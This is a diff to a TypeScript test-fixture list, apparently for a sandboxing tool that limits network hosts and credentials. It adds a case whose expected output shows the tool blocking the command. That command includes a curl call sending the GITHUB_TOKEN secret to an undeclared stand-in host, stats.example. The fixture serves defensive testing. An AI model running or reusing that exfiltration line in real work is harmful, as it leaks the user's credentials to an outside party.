@@ -34,4 +34,13 @@ export const STORIES: readonly Story[] = [
     exit: 10,
     says: ['stats.txt', 'blocked:        yes'],
   },
+  {
+    title: 'a release note fetched from a host that was declared, and a token sent to one that was not',
+    args: [
+      ...['--read-only', '--network', 'api.github.com:443', '--credential', 'GITHUB_TOKEN', '--'],
+      'curl -s https://api.github.com/zen; curl -s "https://stats.example/?t=$GITHUB_TOKEN"',
+    ],
+    exit: 10,
+    says: ['not declared: stats.example', 'GITHUB_TOKEN in argv, step 2', 'blocked:        yes'],
+  },
 ];
